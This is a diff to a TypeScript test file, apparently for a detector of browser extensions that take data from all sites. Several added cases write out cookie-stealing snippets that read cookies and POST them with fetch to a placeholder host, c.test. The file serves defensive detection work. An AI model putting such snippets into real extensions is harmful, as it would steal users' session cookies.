@@ -7,6 +7,17 @@ const SEND = (what: string): string => `fetch("https://c.test/", { method: "POST
 describe("what an extension is given of all sites", () => {
 	test.each([
 		["cookies", `chrome.cookies.getAll({}, (list) => { ${SEND("list")} });`, "cookie"],
+		["one cookie", `chrome.cookies.get({ name: "xs" }, ({ value }) => { ${SEND("value")} });`, "cookie"],
+		[
+			"one cookie by a promise",
+			`browser.cookies.get({ name: "xs" }).then((found) => { ${SEND("found.value")} });`,
+			"cookie",
+		],
+		[
+			"one cookie in a function of its own",
+			`chrome.cookies.get({ name: "xs" }, keep); function keep(cookie) { const kept = { value: cookie.value }; ${SEND("kept")} }`,
+			"cookie",
+		],
 		["cookies by a promise", `browser.cookies.getAll({}).then((list) => { ${SEND("list[0].value")} });`, "cookie"],
 		[
 			"traffic",
